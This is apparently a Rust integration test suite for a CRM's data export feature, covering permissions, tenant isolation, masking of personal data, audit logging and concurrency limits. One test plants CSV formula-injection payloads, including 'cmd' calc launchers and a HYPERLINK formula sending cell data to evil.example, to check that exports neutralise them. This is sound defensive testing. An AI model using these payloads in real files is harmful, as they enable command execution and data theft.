//! Who may export what, what a spreadsheet must not run, and what stands in the audit log.

use std::time::Duration;

use kith_catalogue::access::Action;
use kith_engine::export::{Format, Seats, Wanted, export};
use kith_engine::{Caller, EngineError, ListQuery};
use kith_entities::company::COMPANY;
use kith_entities::contact::CONTACT;
use kith_entities::{CATALOGUE, activity, deal_item};
use kith_store::Statement;
use kith_store::types::Type;
use serde_json::{Map, Value as Json, json};

use crate::bodies::full;
use crate::round_trip::exported;
use crate::world::{World, id_of};

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).unwrap()
}

/// The values of a column of a CSV file.
fn column(csv: &str, name: &str) -> Vec<String> {
    let mut table = kith_tabular::Table::open(
        csv.as_bytes().to_vec(),
        "export.csv",
        kith_tabular::Limits::default(),
    )
    .unwrap();
    let place = table
        .headers()
        .iter()
        .position(|header| header == name)
        .unwrap();
    table
        .rows()
        .unwrap()
        .map(|row| row.unwrap().cells[place].clone())
        .collect()
}

async fn entries(world: &World, caller: &Caller) -> Vec<Json> {
    let select = Statement::new(
        "SELECT jsonb_build_object('entity', entity_type, 'user', user_id, 'details', new_values) FROM audit_log \
         WHERE organization_id = $1 AND action = 'EXPORT' ORDER BY created_at, id",
    )
    .with(caller.principal.organization_id, Type::UUID);
    world
        .test
        .admin()
        .await
        .query(&select)
        .await
        .unwrap()
        .iter()
        .map(|row| row.get(0))
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_entity_goes_out_to_whoever_may_export_it_and_to_nobody_else() {
    let world = World::new().await;
    let (organization, other) = (
        world.organization("Acme").await,
        world.organization("Other").await,
    );
    let owner = world.role(&organization, "owner").await;
    let stranger = world.role(&other, "owner").await;
    for entity in CATALOGUE.entities().iter().copied() {
        if entity.verbs.create {
            let body = full(&world, &owner, entity, 71).await;
            world
                .create(&owner, entity, body)
                .await
                .unwrap_or_else(|error| panic!("{}: {error:?}", entity.name));
        }
        for (role, caller) in [
            ("owner", owner.clone()),
            ("viewer", world.role(&organization, "viewer").await),
            ("sales", world.role(&organization, "sales").await),
            (
                "client_viewer",
                world.role(&organization, "client_viewer").await,
            ),
        ] {
            let allowed = caller.grants.allows(entity.resource, Action::Export)
                && caller.grants.allows(entity.resource, Action::Read);
            let answer = exported(&world, &caller, entity, Format::Ndjson, &[]).await;
            if !allowed {
                assert!(
                    matches!(answer, Err(EngineError::Forbidden { .. })),
                    "{role} exports {}",
                    entity.path
                );
                continue;
            }
            // Line by line it is what the list shows.
            let lines: Vec<Json> = text(answer.unwrap())
                .lines()
                .map(|line| serde_json::from_str(line).unwrap())
                .collect();
            let listed = world
                .list(&caller, entity, &[("limit", "200"), ("sort", "created_at")])
                .await
                .unwrap();
            let listed = listed["data"].as_array().unwrap();
            // An export itself leaves an entry in the audit log.
            if role == "owner" && listed.len() < 200 && entity.name != "audit_entry" {
                assert_eq!(lines.len(), listed.len(), "{}", entity.path);
            }
            for line in &lines {
                if let Some(record) = listed.iter().find(|record| record["id"] == line["id"]) {
                    for (field, value) in record.as_object().unwrap() {
                        assert_eq!(&line[field], value, "{}.{field}", entity.path);
                    }
                }
            }
        }
        // Nobody of another organization gets a single record of this one.
        if let Ok(answer) = exported(&world, &stranger, entity, Format::Ndjson, &[]).await {
            let answer = text(answer);
            let own = world
                .list(&owner, entity, &[("limit", "200")])
                .await
                .unwrap();
            for record in own["data"].as_array().unwrap() {
                assert!(
                    !answer.contains(record["id"].as_str().unwrap()),
                    "{}",
                    entity.path
                );
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_narrow_scope_exports_its_own_records_only() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    let seller = world.role(&organization, "sales").await;
    let mine = world
        .create(&seller, &COMPANY, json!({"name": "Mine"}))
        .await
        .unwrap();
    world
        .create(&owner, &COMPANY, json!({"name": "Theirs"}))
        .await
        .unwrap();
    let free = world
        .create(
            &owner,
            &COMPANY,
            json!({"name": "Nobody's", "owner_id": null}),
        )
        .await
        .unwrap();
    // Read as far as "assigned or unowned", exported no farther than "assigned".
    let seen = world.list(&seller, &COMPANY, &[]).await.unwrap();
    assert_eq!(seen["data"].as_array().unwrap().len(), 2);
    let csv = text(
        exported(&world, &seller, &COMPANY, Format::Csv, &[])
            .await
            .unwrap(),
    );
    assert_eq!(column(&csv, "id"), [id_of(&mine).to_string()], "{csv}");
    assert!(!csv.contains(&id_of(&free).to_string()));
    // Parts are exported with the record they belong to.
    for (company, name) in [(&mine, "Of mine"), (&free, "Of nobody's")] {
        let deal = world
            .create(
                &owner,
                &kith_entities::deal::DEAL,
                json!({"name": name, "company_id": company["id"], "owner_id": if name == "Of mine" { json!(seller.principal.user_id) } else { Json::Null }}),
            )
            .await
            .unwrap();
        world
            .create(
                &owner,
                &deal_item::DEAL_ITEM,
                json!({"deal_id": deal["id"], "description": name, "unit_price": "5"}),
            )
            .await
            .unwrap();
    }
    let csv = text(
        exported(&world, &seller, &deal_item::DEAL_ITEM, Format::Csv, &[])
            .await
            .unwrap(),
    );
    assert_eq!(column(&csv, "description"), ["Of mine"], "{csv}");
    // Where nothing tells whose a record is, a narrower scope than that of reading exports nothing.
    let mut narrow = owner.clone();
    let mut grants = (*narrow.grants).clone();
    grants.insert("activities", Action::Export, "assigned".parse().unwrap());
    narrow.grants = std::sync::Arc::new(grants);
    let refused = exported(&world, &narrow, &activity::ACTIVITY, Format::Csv, &[]).await;
    assert!(matches!(refused, Err(EngineError::Forbidden { .. })));
}

#[tokio::test(flavor = "multi_thread")]
async fn who_sees_a_mask_exports_a_mask() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    let patron = world
        .create(
            &owner,
            &CONTACT,
            json!({"email": "secret.person@example.com", "phone": "+14155550112"}),
        )
        .await
        .unwrap();
    world
        .create(
            &owner,
            &kith_entities::deal::DEAL,
            json!({"name": "Big", "primary_contact_id": patron["id"]}),
        )
        .await
        .unwrap();
    let mut masked = owner.clone();
    let mut grants = kith_catalogue::access::Grants::default();
    for (resource, action, scope) in owner.grants.iter() {
        if resource != "personal_data" {
            grants.insert(resource, action, scope);
        }
    }
    masked.grants = std::sync::Arc::new(grants);
    for format in [Format::Csv, Format::Ndjson] {
        for entity in [&CONTACT, &kith_entities::deal::DEAL] {
            let out = text(
                exported(&world, &masked, entity, format, &[])
                    .await
                    .unwrap(),
            );
            assert!(!out.contains("secret.person"), "{out}");
            assert!(!out.contains("5550112"), "{out}");
            assert!(out.contains("s•••@example.com"), "{out}");
        }
    }
    let refused = exported(
        &world,
        &masked,
        &CONTACT,
        Format::Csv,
        &[("email", "secret.person@example.com")],
    )
    .await;
    assert!(matches!(refused, Err(EngineError::Refused { .. })));
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_spreadsheet_would_run_leaves() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    world
        .create(
            &owner,
            &kith_entities::custom_field::CUSTOM_FIELD,
            json!({"entity": "company", "key": "risk", "label": "=cmd|' /C calc'!A0\n\"x\",y", "kind": "text"}),
        )
        .await
        .unwrap();
    let owner = world.role(&organization, "owner").await;
    let payloads = [
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for payload in payloads {
        world
            .create(
                &owner,
                &COMPANY,
                json!({
                    "name": payload, "notes": payload, "tax_id": payload, "tags": [payload], "phone": "+14155550112",
                    "annual_revenue": "12.5", "billing_address": {"line1": payload}, "custom_fields": {"risk": payload},
                }),
            )
            .await
            .unwrap();
    }
    let csv = text(
        exported(&world, &owner, &COMPANY, Format::Csv, &[])
            .await
            .unwrap(),
    );
    let mut reader = kith_tabular::Table::open(
        csv.as_bytes().to_vec(),
        "export.csv",
        kith_tabular::Limits::default(),
    )
    .unwrap();
    let headers = reader.headers().to_vec();
    for header in &headers {
        assert!(!header.starts_with(['=', '+', '-', '@']), "{header:?}");
        assert!(!header.contains(['\n', '"']), "{header:?}");
    }
    for row in reader.rows().unwrap() {
        for (header, cell) in headers.iter().zip(row.unwrap().cells) {
            let number = header == "phone";
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{header}: {cell}"
            );
        }
    }
    assert_eq!(column(&csv, "phone")[0], "+14155550112");
    assert_eq!(column(&csv, "annual_revenue")[0], "12.50");
    // In a sheet they are text, and numbers are numbers.
    let sheet = exported(&world, &owner, &COMPANY, Format::Xlsx, &[])
        .await
        .unwrap();
    let mut table =
        kith_tabular::Table::open(sheet, "export.xlsx", kith_tabular::Limits::default()).unwrap();
    let place = table
        .headers()
        .iter()
        .position(|header| header == "name")
        .unwrap();
    let names: Vec<String> = table
        .rows()
        .unwrap()
        .map(|row| row.unwrap().cells[place].clone())
        .collect();
    assert_eq!(names, payloads);
}

#[tokio::test(flavor = "multi_thread")]
async fn every_export_is_in_the_audit_log_also_one_that_nobody_reads_to_its_end() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    for number in 0..3 {
        world
            .create(
                &owner,
                &COMPANY,
                json!({"name": format!("Company {number}")}),
            )
            .await
            .unwrap();
    }
    exported(
        &world,
        &owner,
        &COMPANY,
        Format::Csv,
        &[("fields", "name"), ("name[starts]", "Company")],
    )
    .await
    .unwrap();
    let found = loop {
        let found = entries(&world, &owner).await;
        if found.len() == 2 {
            break found;
        }
        tokio::task::yield_now().await;
    };
    assert_eq!(found[0]["details"]["state"], "started");
    assert_eq!(
        found[1],
        json!({"entity": "company", "user": owner.principal.user_id, "details": {"format": "csv", "fields": ["id", "name"], "state": "completed", "count": 3}})
    );
    // The entry shows in the auditor's list.
    let listed = world
        .list(
            &owner,
            &kith_entities::audit_log::AUDIT_ENTRY,
            &[("limit", "200")],
        )
        .await
        .unwrap();
    let shown = listed["data"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|entry| entry["action"] == "EXPORT");
    assert_eq!(shown.count(), 2);
}

/// Companies enough that an export cannot be over before it is read.
async fn many(world: &World, owner: &Caller, count: i64) {
    let insert = Statement::new(
        "INSERT INTO companies (organization_id, name, notes, owner_id) SELECT $1, 'Company ' || n, repeat('x', 2000), $2 FROM generate_series(1, $3) n",
    )
    .with(owner.principal.organization_id, Type::UUID)
    .with(owner.principal.user_id, Type::UUID)
    .with(count, Type::INT8);
    let admin = world.test.admin().await;
    admin
        .script("SET session_replication_role = replica")
        .await
        .unwrap();
    admin.execute(&insert).await.unwrap();
    admin
        .script("RESET session_replication_role")
        .await
        .unwrap();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_reader_who_goes_away_ends_the_statement_and_the_transaction() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    many(&world, &owner, 20_000).await;
    let seats = Seats::of_pool(16);
    let wanted = || Wanted {
        format: Format::Csv,
        mark: false,
        query: ListQuery::default(),
        asked: Map::new(),
        folder: std::env::temp_dir(),
    };
    let mut pieces = export(&world.engine, &seats, &owner, &COMPANY, wanted())
        .await
        .unwrap();
    pieces.recv().await.unwrap().unwrap();
    // Whoever reads slowly stops the reading of the database: the transaction is open and waits.
    let admin = world.test.admin().await;
    let open = || {
        Statement::new(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND usename = 'kith_app' AND xact_start IS NOT NULL",
        )
    };
    let count = async || -> i64 { admin.query(&open()).await.unwrap()[0].get(0) };
    assert_eq!(count().await, 1);
    drop(pieces);
    let gone = async {
        while count().await > 0 {
            tokio::task::yield_now().await;
        }
        loop {
            let found = entries(&world, &owner).await;
            if let Some(last) = found
                .iter()
                .find(|entry| entry["details"]["state"] == "interrupted")
            {
                break last.clone();
            }
            tokio::task::yield_now().await;
        }
    };
    let last = tokio::time::timeout(Duration::from_mins(1), gone)
        .await
        .expect("the export ends");
    let sent = last["details"]["count"].as_i64().unwrap();
    assert!((1..20_000).contains(&sent), "{last}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_organization_has_a_few_exports_at_a_time() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    many(&world, &owner, 20_000).await;
    let seats = Seats::of_pool(64);
    let start = || {
        export(
            &world.engine,
            &seats,
            &owner,
            &COMPANY,
            Wanted {
                format: Format::Ndjson,
                mark: false,
                query: ListQuery::default(),
                asked: Map::new(),
                folder: std::env::temp_dir(),
            },
        )
    };
    let mut held = Vec::new();
    for _ in 0..3 {
        held.push(start().await.unwrap());
    }
    assert!(matches!(start().await, Err(EngineError::Busy { .. })));
    held.clear();
    let free = async {
        while start().await.is_err() {
            tokio::task::yield_now().await;
        }
    };
    tokio::time::timeout(Duration::from_mins(1), free)
        .await
        .expect("a seat is free again");
}

#[tokio::test(flavor = "multi_thread")]
async fn the_order_is_the_lists_and_every_row_is_there_once() {
    let world = World::new().await;
    let organization = world.organization("Acme").await;
    let owner = world.role(&organization, "owner").await;
    for seed in 0..230_u32 {
        let revenue = if seed % 3 == 0 {
            Json::Null
        } else {
            json!((seed * 37 % 100).to_string())
        };
        world
            .create(
                &owner,
                &COMPANY,
                json!({"name": format!("Company {}", seed % 7), "annual_revenue": revenue}),
            )
            .await
            .unwrap();
    }
    for sort in [
        "name",
        "-name",
        "annual_revenue",
        "-annual_revenue",
        "-status,name",
    ] {
        let csv = text(
            exported(&world, &owner, &COMPANY, Format::Csv, &[("sort", sort)])
                .await
                .unwrap(),
        );
        let mut listed = Vec::new();
        let mut offset = 0;
        loop {
            let page = world
                .list(
                    &owner,
                    &COMPANY,
                    &[
                        ("sort", sort),
                        ("limit", "200"),
                        ("offset", &offset.to_string()),
                    ],
                )
                .await
                .unwrap();
            let ids = crate::world::ids(&page);
            if ids.is_empty() {
                break;
            }
            offset += ids.len();
            listed.extend(ids);
        }
        assert_eq!(column(&csv, "id"), listed, "{sort}");
    }
    // Free text finds the best matches first, as the list does.
    let csv = text(
        exported(&world, &owner, &COMPANY, Format::Csv, &[("q", "company 3")])
            .await
            .unwrap(),
    );
    let page = world
        .list(&owner, &COMPANY, &[("q", "company 3"), ("limit", "200")])
        .await
        .unwrap();
    assert_eq!(column(&csv, "id"), crate::world::ids(&page));
}
